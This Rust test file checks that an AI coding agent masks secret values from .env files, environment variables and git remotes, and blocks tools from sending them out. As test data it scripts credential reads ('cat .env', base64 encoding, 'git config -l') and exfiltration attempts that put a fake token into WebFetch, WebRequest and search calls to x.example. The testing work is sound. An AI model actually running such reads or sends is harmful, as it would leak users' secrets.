//! The values of secrets never reach a model.

#![expect(clippy::disallowed_methods, reason = "tests use real files directly")]

use serde_json::json;

use crate::config::{USER_FILE, write_file};
use crate::mcp_fixture::{make_workspace, server_setting};
use crate::model_server::ModelServer;
use crate::test_program::TestProgram;

const TOKEN: &str = "tok-8fJ2kQ9vLxZw3Rt7Yb";
const VARIABLE: &str = "var-5hT8nM2cX6pQ";

fn program_with_secrets() -> (TestProgram, ModelServer) {
    let (zero, model) = (TestProgram::outside_tmp(), ModelServer::start());
    write_file(&zero, USER_FILE, model.settings_json(json!({})));
    write_file(&zero, ".env", format!("API_TOKEN={TOKEN}\nPORT=3000\n"));
    write_file(&zero, "AGENTS.md", format!("Deploy with {TOKEN}.\n"));
    (zero, model)
}

#[test]
fn model_never_receives_value_of_secret() {
    let (zero, model) = program_with_secrets();
    let script = [
        "script:".to_owned(),
        r#"call Bash {"command": "cat .env; base64 .env; fold -w 5 .env"}"#.to_owned(),
        "turn".to_owned(),
        r#"call Read {"file_path": ".env"}"#.to_owned(),
        "turn".to_owned(),
        r#"call Grep {"pattern": "TOKEN", "path": ".env", "output_mode": "content"}"#.to_owned(),
        "turn".to_owned(),
        r#"call Bash {"command": ". ./.env; echo \"$API_TOKEN\" >&2; exit 3"}"#.to_owned(),
        "turn".to_owned(),
        "say Done.".to_owned(),
    ];
    let mut command = zero.command(&["run", "--mode", "auto", "--yes", &script.join("\n")]);
    let seen = zero.render_output(&command.env("DEPLOY_TOKEN", VARIABLE).output().unwrap());
    assert!(seen.starts_with("exit 0"), "{seen}");
    let requests = serde_json::to_string(&model.requests()).unwrap();
    assert_eq!(model.requests().len(), 5, "{seen}");
    assert!(
        requests.contains("‹secret API_TOKEN›") && requests.contains("PORT=3000"),
        "{requests}"
    );
    for text in [&requests, &seen] {
        for value in [TOKEN, "8fJ2kQ9v", "dG9rLThmSjJ"] {
            assert!(!text.contains(value), "{value} in {text}");
        }
    }
    // Sessions, audit log and results of this run.
    let state = zero.folder().join("home/.local/state/zero");
    assert!(state.exists());
    // Values are kept for later runs in a folder of their own.
    let kept = state.join("secrets");
    for path in list_files(&state).into_iter().filter(|path| !path.starts_with(&kept)) {
        let text = String::from_utf8_lossy(&std::fs::read(&path).unwrap()).into_owned();
        assert!(!text.contains(TOKEN), "{}", path.display());
    }
}

#[test]
fn later_run_knows_value_of_moved_file() {
    let (zero, model) = program_with_secrets();
    let token = "ghp_0123456789abcdefghij0123";
    let git = format!("[remote \"o\"]\n\turl = https://bob:{token}@github.com/x/y\n");
    write_file(&zero, "home/.gitconfig", git);
    let scripts = [
        [
            r#"call Bash {"command": "mv .env notes.txt"}"#,
            r#"call Read {"file_path": "AGENTS.md"}"#,
        ],
        [r#"call Read {"file_path": "notes.txt"}"#, r#"call Bash {"command": "git config -l"}"#],
    ];
    for [first, second] in scripts {
        let script = ["script:", first, "turn", second, "turn", "say Done."].join("\n");
        let seen = zero.run(&["run", "--mode", "auto", "--yes", &script]);
        assert!(seen.starts_with("exit 0") && !seen.contains(TOKEN), "{seen}");
    }
    let requests = serde_json::to_string(&model.requests()).unwrap();
    assert!(requests.contains("API_TOKEN=‹secret API_TOKEN›"), "{requests}");
    assert!(requests.contains("https://bob:‹secret remote.url›@github.com/x/y"), "{requests}");
    assert!(!requests.contains(TOKEN) && !requests.contains(token), "{requests}");
}

#[test]
fn prompt_reaches_model_without_value() {
    let (zero, model) = program_with_secrets();
    let seen = zero.run(&["run", &format!("The token is {TOKEN}. script:\nsay Done.")]);
    assert!(seen.starts_with("exit 0"), "{seen}");
    let requests = serde_json::to_string(&model.requests()).unwrap();
    assert!(requests.contains("The token is ‹secret API_TOKEN›.") && !requests.contains(TOKEN));
}

#[test]
fn server_shows_model_no_value() {
    let model = ModelServer::start();
    let zero = make_workspace();
    let servers = json!({"a": server_setting(&zero, "a", "")});
    let permissions = json!({"allow": ["a__*"]});
    let settings = json!({"mcpServers": servers, "permissions": permissions});
    write_file(&zero, USER_FILE, model.settings_json(settings));
    write_file(&zero, ".env", format!("API_TOKEN={TOKEN}\n"));
    // What the server says about its tool.
    write_file(&zero, "words-a", format!("Says {TOKEN}."));
    let seen = zero.run(&["tools", "call", "a__echo", r#"{"text": "known"}"#]);
    assert!(seen.contains("known"), "{seen}");
    let seen = zero.run(&["run", "script:\nsay Done."]);
    assert!(seen.starts_with("exit 0"), "{seen}");
    let requests = serde_json::to_string(&model.requests()).unwrap();
    assert!(requests.contains("Says ‹secret API_TOKEN›."), "{requests}");
    assert!(!requests.contains(TOKEN), "{requests}");
}

#[test]
fn value_leaves_by_no_tool_that_rules_allow() {
    let zero = make_workspace();
    let servers = json!({"a": server_setting(&zero, "a", "")});
    let allow = json!(["WebFetch", "WebRequest", "WebSearch", "a__*", "Memory", "Bash"]);
    let search = json!([{"engine": "searxng", "baseUrl": "http://127.0.0.1:9/"}]);
    let settings =
        json!({"mcpServers": servers, "permissions": {"allow": allow}, "web": {"search": search}});
    write_file(&zero, USER_FILE, settings.to_string());
    write_file(&zero, ".env", format!("API_TOKEN={TOKEN}\n"));
    let encoded = "dG9rLThmSjJrUTl2THhadzNSdDdZYg==";
    for (tool, input) in [
        ("WebFetch", json!({"url": format!("https://x.example/?q={TOKEN}"), "prompt": "x"})),
        ("WebFetch", json!({"url": format!("https://x.example/{encoded}"), "prompt": "x"})),
        ("WebRequest", json!({"url": "https://x.example/", "method": "POST", "body": TOKEN})),
        ("WebRequest", json!({"url": "https://x.example/", "headers": {"X-A": TOKEN}})),
        ("WebSearch", json!({"query": format!("what is {TOKEN}")})),
        ("a__echo", json!({"text": encoded})),
        ("Memory", json!({"action": "save", "text": format!("The token is {TOKEN}")})),
        ("Bash", json!({"command": format!("git commit -m {TOKEN}")})),
    ] {
        let seen = zero.run(&["tools", "call", tool, &input.to_string()]);
        assert!(seen.starts_with("exit 3"), "{tool}: {seen}");
        let expected = "it sends the value of the secret `API_TOKEN`";
        assert!(seen.contains(expected), "{tool}: {seen}");
        assert!(!seen.contains(TOKEN), "{tool}: {seen}");
    }
}

#[test]
fn setting_turns_masking_off() {
    let (zero, model) = program_with_secrets();
    write_file(&zero, USER_FILE, model.settings_json(json!({"secrets": {"mask": false}})));
    let seen = zero.run(&["tools", "call", "Read", r#"{"file_path": ".env"}"#]);
    assert!(seen.starts_with("exit 0") && seen.contains(TOKEN), "{seen}");
    // A project cannot.
    write_file(&zero, USER_FILE, model.settings_json(json!({})));
    write_file(&zero, ".zero/settings.json", r#"{"secrets": {"mask": false, "except": [".env"]}}"#);
    let seen = zero.run(&["tools", "call", "Read", r#"{"file_path": ".env"}"#, "--yes"]);
    assert!(!seen.contains(TOKEN) && seen.contains("‹secret API_TOKEN›"), "{seen}");
}

#[test]
fn doctor_names_masked_values() {
    let (zero, _model) = program_with_secrets();
    let mut command = zero.command(&["doctor"]);
    let seen = zero.render_output(&command.env("DEPLOY_TOKEN", VARIABLE).output().unwrap());
    let expected = "2 values from 1 secret file and 1 variable masked: API_TOKEN, DEPLOY_TOKEN; not secret: PORT";
    assert!(seen.contains(expected), "{seen}");
    assert!(!seen.contains(TOKEN) && !seen.contains(VARIABLE), "{seen}");
}

#[test]
fn unasked_command_of_session_reads_no_secret_file() {
    let (zero, model) = program_with_secrets();
    write_file(&zero, "app/.env", format!("API_TOKEN={TOKEN}\nPORT=3000\n"));
    write_file(&zero, "app/src/main.js", "start(process.env.PORT)\n");
    // The folder around it contains the home folder, about which zero asks anyway.
    let run = |args: &[&str]| {
        let output = zero.command(args).current_dir(zero.folder().join("app")).output().unwrap();
        zero.render_output(&output)
    };
    let bash = |command: &str, mode: &str| {
        let input = json!({"command": command}).to_string();
        run(&["tools", "call", "Bash", &input, "--mode", mode])
    };
    for mode in ["plan", "ask"] {
        for command in ["grep -rn . .", "find . -type f | xargs cat"] {
            // The two streams of a command may be mixed in the middle of a message.
            let seen = bash(&format!("{command} 2>&1 >/dev/null"), mode);
            assert!(seen.contains("ermission denied"), "{mode}: {seen}");
            let seen = bash(&format!("{command} 2>/dev/null"), mode);
            assert!(seen.contains("start(process"), "{mode}: {seen}");
            assert!(!seen.contains("PORT=3000"), "{mode}: {seen}");
        }
        let seen = bash("tar c . 2>/dev/null | tr a-z b-za", mode);
        assert!(seen.contains("tubsu(qspdftt") && !seen.contains("PORT=3000"), "{mode}: {seen}");
        let seen = bash("cat .env", mode);
        assert!(seen.starts_with("exit 3"), "{mode}: {seen}");
    }
    let seen = bash("grep -rn PORT .", "ask");
    assert!(
        seen.contains("secrets: `.env` is hidden from this command, because the user was not asked; name the file in the command to be asked, or allow `Read(/.env)`"),
        "{seen}"
    );
    assert!(bash("grep -rn PORT .", "auto").contains("PORT=3000"));
    let seen = run(&["policy", "explain", "grep -rn PORT ."]);
    assert!(seen.contains("sandbox: read-only; secret files are hidden; no network"), "{seen}");
    let allow = json!({"permissions": {"allow": ["Read(/.env)"]}});
    write_file(&zero, USER_FILE, model.settings_json(allow));
    assert!(bash("grep -rn PORT .", "ask").contains("PORT=3000"));
    let allow = json!({"permissions": {"allow": ["Bash(python3:*)"]}});
    write_file(&zero, USER_FILE, model.settings_json(allow));
    let seen = bash("python3 -c 'print(open(\".env\").read())'", "ask");
    assert!(seen.contains("PORT=3000"), "{seen}");
}

fn list_files(folder: &std::path::Path) -> Vec<std::path::PathBuf> {
    let entries = std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path());
    entries.flat_map(|path| if path.is_dir() { list_files(&path) } else { vec![path] }).collect()
}
